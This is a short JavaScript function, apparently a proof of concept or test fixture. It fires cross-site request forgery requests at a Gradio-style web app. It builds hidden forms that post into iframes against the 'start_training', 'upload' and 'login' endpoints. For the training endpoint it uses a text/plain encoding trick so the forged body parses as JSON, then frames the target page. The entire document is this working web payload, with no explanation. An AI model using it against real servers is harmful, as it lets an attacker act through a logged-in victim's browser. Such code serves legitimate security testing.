({target, body}) => {
  for (const [path, type, name, value] of [
    ['gradio_api/run/start_training', 'text/plain', body.slice(0, -1) + ', "x": "', '"}'],
    ['gradio_api/upload', 'multipart/form-data', 'files', 'x'],
    ['login', 'application/x-www-form-urlencoded', 'username', 'x'],
  ]) {
    const frame = document.createElement('iframe');
    frame.name = 'into' + document.forms.length;
    const form = document.createElement('form');
    Object.assign(form, {method: 'post', action: target + path, enctype: type, target: frame.name});
    const field = document.createElement('input');
    Object.assign(field, {name, value});
    form.append(field);
    document.body.append(frame, form);
    form.submit();
  }
  const framed = document.createElement('iframe');
  framed.src = target;
  document.body.append(framed);
}
